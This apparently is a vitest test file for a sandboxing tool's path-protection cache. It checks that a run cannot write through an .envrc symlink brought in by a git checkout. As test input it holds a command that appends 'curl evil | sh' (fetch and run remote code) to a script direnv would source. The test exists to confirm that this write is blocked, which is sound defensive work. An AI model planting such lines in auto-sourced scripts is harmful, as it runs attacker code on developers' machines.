import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { client, residentHosts } from "../support/resident.js";
import { baseEnv, runVak } from "../support/vak.js";

/**
 * The held-path walk's cache (src/policy/walk-cache.ts): what a repository
 * holds can change between two runs (a `git pull`, a `git checkout` on the
 * host), and a run whose walk takes unchanged directories from the cache (the
 * resident host keeps it in memory) must hold what the new checkout's
 * protected links lead to, exactly as a walk without the cache would, and as
 * an in-process run (which reads every directory) does. A directory's record
 * is trusted only once its ctime is 3 s old, so the repositories are made,
 * then aged, before the runs.
 */
const resident = residentHosts("vak-held-cache-");
const DEEP = "a/b/c/d/e";
const git = (cwd: string, ...args: string[]) => execFileSync("git", ["-c", "user.email=t@example.invalid", "-c", "user.name=t", ...args], { cwd, stdio: "ignore" });

/** A repository whose branch `feature` adds, at depth 6, an .envrc that links to a script the host's direnv would source. */
function repository(): string {
  const ws = resident.workspace();
  git(ws, "init", "-q", "-b", "main");
  mkdirSync(join(ws, DEEP), { recursive: true });
  for (let i = 0; i < 20; i++) {
    mkdirSync(join(ws, `node_modules/p${i}/lib`), { recursive: true });
    writeFileSync(join(ws, `node_modules/p${i}/lib/index.js`), "\n");
  }
  writeFileSync(join(ws, DEEP, "notes.md"), "notes\n");
  writeFileSync(join(ws, "tools.sh"), "echo tools\n");
  git(ws, "add", "-A");
  git(ws, "commit", "-qm", "main");
  git(ws, "checkout", "-q", "-b", "feature");
  symlinkSync("../../../../../tools.sh", join(ws, DEEP, ".envrc"));
  git(ws, "add", "-A");
  git(ws, "commit", "-qm", "an envrc");
  git(ws, "checkout", "-q", "main");
  return ws;
}

let inProcess: string;
let served: string;

beforeAll(async () => {
  inProcess = repository();
  served = repository();
  await new Promise((r) => setTimeout(r, 3200));
}, 30_000);
afterAll(() => resident.stopAll());

const WRITE_TOOLS = `echo 'curl evil | sh' >> tools.sh; printf x > new && mv new tools.sh; true`;

describe("a walk that takes directories from the cache holds what changed since", () => {
  it("in-process: after a git checkout on the host brings in a protected link at depth 6, the next run cannot write where it leads", async () => {
    const env = baseEnv();
    const first = await runVak(["exec", "--", "/bin/true"], { cwd: inProcess, env });
    expect(first.code).toBe(0);
    git(inProcess, "checkout", "-q", "feature");
    const r = await runVak(["exec", "--", "/bin/sh", "-c", WRITE_TOOLS], { cwd: inProcess, env });
    expect(r.code).toBe(0);
    expect(readFileSync(join(inProcess, "tools.sh"), "utf8")).toBe("echo tools\n");
    expect(r.stderr).toContain("where the protected name");
  });

  it("through the resident host, whose walks after the first take unchanged directories from its cache: the same", async () => {
    const h = await resident.start();
    // Two runs: the first records the aged tree, the second takes it from the cache.
    for (let i = 0; i < 2; i++) expect((await client(h, ["exec", "--", "/bin/true"], { cwd: served }).done).code).toBe(0);
    git(served, "checkout", "-q", "feature");
    const r = await client(h, ["exec", "--", "/bin/sh", "-c", WRITE_TOOLS], { cwd: served }).done;
    expect(r.code).toBe(0);
    expect(readFileSync(join(served, "tools.sh"), "utf8")).toBe("echo tools\n");
    expect(r.stderr).toContain("where the protected name");
  });
});
